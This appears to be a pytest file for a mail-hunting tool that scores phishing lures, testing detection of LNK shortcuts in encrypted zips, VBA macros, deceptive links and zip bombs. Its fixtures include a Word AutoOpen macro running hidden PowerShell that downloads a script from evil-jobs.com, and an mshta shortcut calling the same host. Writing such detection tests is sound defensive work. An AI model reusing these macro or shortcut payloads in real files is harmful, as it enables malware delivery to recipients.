"""Mail hunting: parsing (.eml, mbox, folders), lure scoring, olevba on a real VBA project, KB matches, the CLI."""

from __future__ import annotations

import hashlib
import io
import json
import mailbox
import random
from email.message import EmailMessage
from pathlib import Path

import olefile
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import heistwatch.cli.hunt_mail  # noqa: F401  (registers `hunt mail`)
from heistwatch.cli.main import Exit, cli
from heistwatch.errors import InputError
from heistwatch.hunt.lures import HIGH, MEDIUM, hunt_mail, load_domains, mail_sightings, score_mail
from heistwatch.hunt.mail import Mail, MailProblem, parse_message, read_mail
from heistwatch.hunt.mail_corpus import (
    compound_file,
    encrypted_zip,
    make_demo_mail,
    plain_zip,
    score_against,
    shortcut,
    vba_document,
)
from heistwatch.hunt.matcher import IndicatorSet
from heistwatch.kb import SQLiteStore
from tests.conftest import report_batch

MACRO = (
    'Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n'
    '    CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr https://evil-jobs.com/t.ps1", 0\r\n'
    "End Sub\r\n"
)


def message(
    sender: str, subject: str, body: str, *, reply_to: str | None = None, html: str | None = None
) -> EmailMessage:
    msg = EmailMessage()
    msg["Received"] = (
        "from mail-relay.evil-jobs.com (relay7.evil-jobs.com [198.51.100.23]) by mx1.hokuto-exchange.com"
        " with ESMTPS id 4Q; Mon, 16 Mar 2026 00:41:09 +0000"
    )
    msg["Received"] = "from [10.0.0.5] (unknown [IPv6:2001:db8::7]) by mail-relay.evil-jobs.com; Mon, 16 Mar 2026"
    msg["Authentication-Results"] = "mx1.hokuto-exchange.com; spf=softfail smtp.mailfrom=x; dkim=none; dmarc=fail"
    msg["From"] = sender
    msg["To"] = "k.sato@hokuto-exchange.com"
    if reply_to:
        msg["Reply-To"] = reply_to
    msg["Return-Path"] = "<bounce@bounces.evil-jobs.com>"
    msg["Subject"] = subject
    msg["Date"] = "Mon, 16 Mar 2026 00:41:07 +0000"
    msg["Message-ID"] = "<abc.123@mail.evil-jobs.com>"
    msg.set_content(body)
    if html:
        msg.add_alternative(html, subtype="html")
    return msg


def recruiter_lure(*, password_in_body: bool = True) -> EmailMessage:
    """A recruiter's job offer with `Job_Description.pdf.lnk` inside a password-protected zip."""
    password = "Jd-2026!x"
    body = (
        "Hello,\n\nI am a recruiter for Blockwave Capital. Your profile on LinkedIn fits our Senior DevOps Engineer"
        " job opening; the salary range is very competitive. The job description is attached."
        + (f"\nThe password is: {password}\n" if password_in_body else "\n")
    )
    msg = message('"HR | Blockwave Capital" <careers@blockwave.example.com>', "Job offer", body)
    msg.replace_header("From", '"Jane Roe | Blockwave Capital" <blockwave.hr@gmail.com>')
    msg["Reply-To"] = "jane@blockwave-capital.com"
    lnk = shortcut(r"..\Windows\System32\mshta.exe", "https://evil-jobs.com/jd")
    msg.add_attachment(
        encrypted_zip({"Job_Description.pdf.lnk": lnk}, password),
        maintype="application",
        subtype="zip",
        filename="Job_Description.zip",
    )
    return msg


def trading_lure() -> EmailMessage:
    """A trading firm's partnership offer with a Word document whose AutoOpen macro runs PowerShell."""
    msg = message(
        '"Partnerships, Norden Quant Trading" <partners@nordenquant.example.org>',
        "Market-making partnership proposal",
        "We are a proprietary trading firm and liquidity provider. Our terms of cooperation for OTC settlement"
        " are attached.",
    )
    msg.add_attachment(
        vba_document({"NewMacros": MACRO}), maintype="application", subtype="msword", filename="Terms.doc"
    )
    return msg


def newsletter() -> EmailMessage:
    """An ordinary newsletter: many links, click tracking, a shortener, an unsubscribe link; nothing else."""
    site = "cryptomarketsweekly.com"
    links = "".join(
        f'<p><a href="https://u1.ct.sendgrid.net/ls/click?upn={i}">https://{site}/a/{i}</a>'
        f' <a href="https://{site}/a/{i}">Read more about new opportunities</a></p>'
        for i in range(8)
    )
    msg = message(
        f'"Crypto Markets Weekly" <news@{site}>',
        "This week: ETF flows and stablecoins",
        f"Read online: https://{site}/issue/12",
        html=f'<html><body>{links}<a href="https://bit.ly/x1">Share</a></body></html>',
        reply_to=f"noreply@{site}",
    )
    msg.replace_header("Authentication-Results", "mx1; spf=pass dkim=pass dmarc=pass")
    return msg


def parsed(msg: EmailMessage) -> Mail:
    return parse_message(msg.as_bytes(), file="t.eml")


def rules(mail: Mail, indicators: IndicatorSet | None = None) -> dict[str, int]:
    return {r.rule: r.points for r in score_mail(mail, indicators).reasons}


def test_sender_infrastructure() -> None:
    mail = parsed(recruiter_lure())
    assert (mail.from_domain, mail.reply_to_domain) == ("gmail.com", "blockwave-capital.com")
    assert mail.return_path_domain == "bounces.evil-jobs.com" and mail.message_id_domain == "mail.evil-jobs.com"
    assert mail.auth == {"spf": "softfail", "dkim": "none", "dmarc": "fail"}
    first, second = mail.hops
    assert (first.helo, first.rdns, first.ips, first.by) == (
        "mail-relay.evil-jobs.com",
        "relay7.evil-jobs.com",
        ("198.51.100.23",),
        "mx1.hokuto-exchange.com",
    )
    assert second.ips == ("10.0.0.5", "2001:db8::7") and second.rdns is None


def test_links_from_text_and_html_and_deceptive_anchors() -> None:
    html = (
        '<p>See <a href="http://203.0.113.9/login">https://www.binance.com/login</a> and'
        ' <a href="https://docs.example.org/x">our docs</a>. Also www.plain-text.example.net/p.</p>'
        "<script>var u = 'https://hidden.example.com/';</script>"
    )
    mail = parsed(message("a@b.example.com", "s", "Body link: https://one.example.com/a?b=1.", html=html))
    by_url = {link.url: link for link in mail.links}
    assert set(by_url) == {
        "https://one.example.com/a?b=1",
        "http://203.0.113.9/login",
        "https://docs.example.org/x",
        "http://www.plain-text.example.net/p",
    }
    assert by_url["http://203.0.113.9/login"].text == "https://www.binance.com/login"
    found = rules(mail)
    assert found["deceptive-link"] == 25 and found["ip-link"] == 20
    assert "hidden.example.com" not in mail.text


def test_attachment_name_type_size_and_hashes() -> None:
    data = b"%PDF-1.4\n%%EOF\n" * 10
    msg = message("a@b.example.com", "invoice", "attached")
    msg.add_attachment(data, maintype="application", subtype="pdf", filename="INV-7.pdf")
    (attachment,) = parsed(msg).attachments
    assert (attachment.name, attachment.content_type, attachment.size, attachment.data) == (
        "INV-7.pdf",
        "application/pdf",
        len(data),
        data,
    )
    assert attachment.md5 == hashlib.md5(data).hexdigest()
    assert attachment.sha1 == hashlib.sha1(data).hexdigest()
    assert attachment.sha256 == hashlib.sha256(data).hexdigest()


def test_recruiter_lure_with_lnk_in_password_protected_zip() -> None:
    finding = score_mail(parsed(recruiter_lure()))
    found = {r.rule: r for r in finding.reasons}
    assert finding.themes == ("recruiter",) and finding.level == "high" and finding.score >= HIGH
    assert "Job_Description.zip/Job_Description.pdf.lnk: Windows shortcut (LNK)" in found["dangerous-file"].detail
    assert {"encrypted-archive", "double-extension", "reply-to-mismatch", "freemail-company"} <= set(found)
    assert found["password-in-message"].points == 10 and "opens" in found["password-in-message"].detail
    # the shortcut itself was read with the password: its content is a shell link, as its name says
    assert "type-mismatch" not in found


def test_encrypted_archive_names_are_seen_without_the_password() -> None:
    found = rules(parsed(recruiter_lure(password_in_body=False)))
    assert {"encrypted-archive", "dangerous-file", "double-extension"} <= set(found)
    assert "password-in-message" not in found


def test_trading_lure_with_macro_document() -> None:
    finding = score_mail(parsed(trading_lure()))
    found = {r.rule: r for r in finding.reasons}
    assert "trading-firm" in finding.themes and finding.score >= HIGH
    assert found["vba-macros"].points == 35
    assert "AutoOpen" in found["macro-autoexec"].detail
    assert "powershell" in found["macro-suspicious"].detail.lower()


def test_vba_document_is_a_valid_compound_file() -> None:
    """The builder writes MS-CFB that olefile reads without defects, with the VBA project where Word keeps it."""
    document = vba_document({"NewMacros": MACRO})
    ole = olefile.OleFileIO(io.BytesIO(document), raise_defects=olefile.DEFECT_INCORRECT)
    assert sorted("/".join(p) for p in ole.listdir()) == [
        "Macros/PROJECT",
        "Macros/VBA/NewMacros",
        "Macros/VBA/_VBA_PROJECT",
        "Macros/VBA/dir",
    ]
    assert ole.openstream("Macros/VBA/_VBA_PROJECT").read() == b"\xcc\x61\xff\xff\x00\x00\x00"


def test_office_file_without_macros_is_not_flagged() -> None:
    msg = message("a@b.example.com", "report", "attached")
    msg.add_attachment(
        compound_file({"WordDocument": b"\x00" * 700}), maintype="application", subtype="msword", filename="Report.doc"
    )
    assert not any(rule.startswith(("vba", "macro")) for rule in rules(parsed(msg)))


def test_newsletter_scores_low() -> None:
    finding = score_mail(parsed(newsletter()))
    assert finding.score < MEDIUM and finding.themes == ()
    assert {r.rule for r in finding.reasons} <= {"shortener-link"}


def test_disguised_content_rtlo_and_archive_in_archive() -> None:
    inner = plain_zip({"Invoice.pdf": b"MZ\x90\x00" + bytes(60), "readme.txt": b"hi"})
    msg = message("a@b.example.com", "docs", "see attached")
    msg.add_attachment(plain_zip({"docs/inner.zip": inner}), maintype="application", subtype="zip", filename="d.zip")
    msg.add_attachment(b"x = 1", maintype="application", subtype="octet-stream", filename="photo\u202egpj.js")
    found = {r.rule: r.detail for r in score_mail(parsed(msg)).reasons}
    assert "d.zip/docs/inner.zip/Invoice.pdf is a Windows executable although named with .pdf" in found["type-mismatch"]
    assert "rtlo-name" in found and "JScript" in found["dangerous-file"]


def test_zip_bomb_member_is_listed_not_unpacked() -> None:
    bomb = plain_zip({"a.zip": bytes(40 << 20)})  # 40 MiB of zeros deflate to about 40 KiB
    msg = message("a@b.example.com", "logs", "attached")
    msg.add_attachment(plain_zip({"logs.zip": bomb}), maintype="application", subtype="zip", filename="l.zip")
    found = {r.rule: r for r in score_mail(parsed(msg)).reasons}
    assert "l.zip/logs.zip/a.zip: 41,943,040 bytes unpacked" in found["archive-limits"].detail


def test_kb_indicator_matched_in_a_link(tmp_kb: Path) -> None:
    store = SQLiteStore(tmp_kb)
    try:
        store.import_report(report_batch("2026-03-01T00:00:00Z", ("evil-jobs.com",)))
        indicators = IndicatorSet.from_indicators(store.indicators())
    finally:
        store.close()
    html = '<a href="https://cdn.evil-jobs.com/jd?id=1">Job page</a> <a href="https://notevil-jobs.com/">x</a>'
    msg = message('"Jobs" <jobs@recruit.example.net>', "A role", "Hello", html=html)
    del msg["Received"], msg["Return-Path"], msg["Message-ID"]
    finding = score_mail(parsed(msg), indicators)
    (hit,) = finding.hits
    assert (hit.kind, hit.value, hit.observed, hit.field) == (
        "domain",
        "evil-jobs.com",
        "https://cdn.evil-jobs.com/jd?id=1",
        "link",
    )
    assert finding.score >= 50 and "kb-indicator" in {r.rule for r in finding.reasons}


def test_sightings_from_sender_infrastructure_and_macro_iocs(tmp_path: Path) -> None:
    iset = IndicatorSet.from_values([("i-dom", "domain", "evil-jobs.com"), ("i-ip", "ipv4", "198.51.100.0/24")])
    path = tmp_path / "lure.eml"
    path.write_bytes(trading_lure().as_bytes())
    report = hunt_mail([path], iset, min_score=0)
    fields = {(s.indicator_id, s.field) for s in mail_sightings(report)}
    assert fields == {("i-ip", "received"), ("i-dom", "return-path")}  # one sighting per indicator and message
    assert all(s.line == 1 and s.first_seen == "2026-03-16T00:41:07+00:00" for s in mail_sightings(report))


def test_mbox_streamed_with_from_lines_and_folders(tmp_path: Path) -> None:
    box = mailbox.mbox(tmp_path / "box.mbox")
    for n in range(3):
        box.add(message("a@b.example.com", f"m{n}", f"line\nFrom here on, message {n}\n"))
    box.close()
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "one.eml").write_bytes(newsletter().as_bytes())
    (tmp_path / "sub" / "image.png").write_bytes(b"\x89PNG\r\n")
    seen: list[int] = []
    items = list(read_mail([tmp_path], on_bytes=seen.append))
    mails = [i for i in items if isinstance(i, Mail)]
    assert [(Path(m.file).name, m.index, m.subject) for m in mails] == [
        ("box.mbox", 1, "m0"),
        ("box.mbox", 2, "m1"),
        ("box.mbox", 3, "m2"),
        ("one.eml", 1, "This week: ETF flows and stablecoins"),
    ]
    assert "\nFrom here on, message 1" in mails[1].text  # mbox quoting undone
    assert sum(seen) == (tmp_path / "box.mbox").stat().st_size + (tmp_path / "sub" / "one.eml").stat().st_size
    assert not [i for i in items if isinstance(i, MailProblem)]


def test_malformed_messages_are_counted_and_reading_goes_on(tmp_path: Path) -> None:
    good = message("a@b.example.com", "ok", "fine").as_bytes()
    broken = b"Content-Type: multipart/mixed\n\nno boundary anywhere\n"
    box = tmp_path / "box.mbox"
    box.write_bytes(
        b"From x Mon Mar 16 00:00:00 2026\n" + good + b"\n"
        b"From x Mon Mar 16 00:00:00 2026\n\x00\xff\x10 binary junk without headers\n\n"
        b"From x Mon Mar 16 00:00:00 2026\n" + broken + b"\n"
        b"From x Mon Mar 16 00:00:00 2026\n" + b"Subject: big\n\n" + b"x" * 5000 + b"\n\n"
        b"From x Mon Mar 16 00:00:00 2026\n" + good
    )
    items = list(read_mail([box], max_message_bytes=4000))
    problems = [(p.index, p.problem.split(":")[0]) for p in items if isinstance(p, MailProblem)]
    assert problems == [
        (2, "no mail headers"),
        (3, "read with defects"),
        (4, "message larger than 4,000 bytes, skipped"),
    ]
    assert [m.index for m in items if isinstance(m, Mail)] == [1, 3, 5]


def test_unreadable_file_is_a_problem(tmp_path: Path) -> None:
    items = list(read_mail([tmp_path / "missing.eml"]))
    assert len(items) == 1 and isinstance(items[0], MailProblem) and items[0].index == 0


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=3000), mbox=st.booleans())
def test_random_bytes_never_crash_and_errors_are_counted(tmp_path: Path, data: bytes, mbox: bool) -> None:
    path = tmp_path / "fuzz.eml"
    path.write_bytes((b"From fuzz\n" if mbox else b"") + data)
    report = hunt_mail([path], IndicatorSet.from_values([("i", "domain", "evil.com")]), min_score=0)
    assert report.messages + len({p.index for p in report.problems if p.problem.startswith(("no", "cannot"))}) >= 1
    assert all(p.file == str(path) for p in report.problems)


VALID_FILES = {
    "x.zip": encrypted_zip({"a.pdf.lnk": b"L\x00\x00\x00" * 20}, "pw"),
    "y.zip": plain_zip({"in.zip": plain_zip({"a.txt": b"hello" * 50})}),
    "z.doc": vba_document({"NewMacros": MACRO}),
}


@settings(max_examples=150, deadline=None)
@given(
    name=st.sampled_from(sorted(VALID_FILES)),
    flips=st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1, max_size=8),
)
def test_damaged_archives_and_documents_never_crash(name: str, flips: list[tuple[int, int]]) -> None:
    data = bytearray(VALID_FILES[name])
    for position, value in flips:
        data[position % len(data)] = value
    msg = message("a@b.example.com", "s", "the password is pw")
    msg.add_attachment(bytes(data), maintype="application", subtype="octet-stream", filename=name)
    finding = score_mail(parsed(msg))
    assert all(0 <= r.points <= 50 for r in finding.reasons) and 0 <= finding.score <= 100


@settings(max_examples=100, deadline=None)
@given(
    headers=st.lists(
        st.tuples(st.sampled_from(["From", "Reply-To", "Received", "Subject", "Authentication-Results"]), st.text()),
        max_size=6,
    ),
    body=st.text(max_size=500),
)
def test_hostile_headers_never_crash(headers: list[tuple[str, str]], body: str) -> None:
    raw = "".join(f"{name}: {value}\n" for name, value in headers) + "\n" + body
    try:
        mail = parse_message(raw.encode("utf-8", "surrogatepass"), file="h.eml")
    except InputError:
        return
    score_mail(mail)


def test_demo_corpus_planted_lures_found_and_no_false_alarms(tmp_path: Path) -> None:
    truth = make_demo_mail(random.Random(3), tmp_path / "mail", ordinary=40)
    iset = IndicatorSet.from_values(
        [
            ("a", "domain", "cloud-docs-share.online"),
            ("b", "email", "hr@blockwave-capital.com"),
            ("c", "ipv4", "45.138.16.212"),
            ("d", "filename", "Job_Description_Blockwave.pdf.lnk"),
        ]
    )
    report = hunt_mail(truth.paths, iset)
    score = score_against(truth, report)
    assert len(truth.lures) == 5 and len(truth.ordinary) == 40
    assert score.missed == () and score.false_alarms == () and score.rules_missing == {}
    assert report.messages == 45 and report.problems == ()


def test_load_domains(tmp_path: Path) -> None:
    path = tmp_path / "new.txt"
    path.write_text("# newly registered\nBlockwave-Capital.com.\n\n")
    assert load_domains(path) == {"blockwave-capital.com"}
    path.write_text("ok.com\nnot a domain\n")
    with pytest.raises(InputError, match=r"new.txt:2"):
        load_domains(path)


def test_new_domain_raises_the_score() -> None:
    mail = parsed(recruiter_lure())
    before = score_mail(mail).reasons
    after = score_mail(mail, new_domains={"blockwave-capital.com"}).reasons
    assert "new-domain" not in {r.rule for r in before} and "new-domain" in {r.rule for r in after}


def test_scanner_hook_adds_reasons() -> None:
    seen: list[str] = []

    def scan(name: str, data: bytes) -> list[str]:
        seen.append(name)
        return ["YARA DPRK_LNK_Dropper"] if data.startswith(b"L\x00\x00\x00") else []

    finding = score_mail(parsed(recruiter_lure()), scan_attachment=scan)
    assert seen == ["Job_Description.zip", "Job_Description.zip/Job_Description.pdf.lnk"]
    assert any(r.rule == "scanner" and "DPRK_LNK_Dropper" in r.detail for r in finding.reasons)


def test_cli_text_and_json(tmp_path: Path) -> None:
    (tmp_path / "lure.eml").write_bytes(recruiter_lure().as_bytes())
    (tmp_path / "news.eml").write_bytes(newsletter().as_bytes())
    runner = CliRunner()
    text = runner.invoke(cli, ["--kb", str(tmp_path / "none"), "hunt", "mail", str(tmp_path), "--no-indicators"])
    assert text.exit_code == Exit.OK, text.output
    assert "lure.eml #1  score 100 (high)" in text.output and "news.eml" not in text.output
    assert "dangerous-file: Job_Description.zip/Job_Description.pdf.lnk" in text.output
    as_json = runner.invoke(
        cli,
        [
            "--kb",
            str(tmp_path / "none"),
            "hunt",
            "mail",
            str(tmp_path),
            "--no-indicators",
            "--json",
            "--min-score",
            "0",
        ],
    )
    data = json.loads(as_json.stdout)
    assert data["messages"] == 2 and data["problems"] == []
    assert [Path(f["file"]).name for f in data["findings"]] == ["lure.eml", "news.eml"]
    assert data["findings"][0]["level"] == "high" and data["findings"][0]["reasons"][0]["points"] == 40


def test_cli_needs_a_knowledge_base_for_indicators_and_reports_problems(tmp_path: Path) -> None:
    (tmp_path / "bad.eml").write_bytes(b"\x00\x01 nothing like mail")
    runner = CliRunner()
    missing = runner.invoke(cli, ["--kb", str(tmp_path / "none"), "hunt", "mail", str(tmp_path)])
    assert missing.exit_code != Exit.OK and "kb build" in str(missing.exception)
    bad = runner.invoke(cli, ["--kb", str(tmp_path / "none"), "hunt", "mail", str(tmp_path), "--no-indicators"])
    assert bad.exit_code == Exit.BAD_INPUT and "bad.eml #1: no mail headers" in bad.output
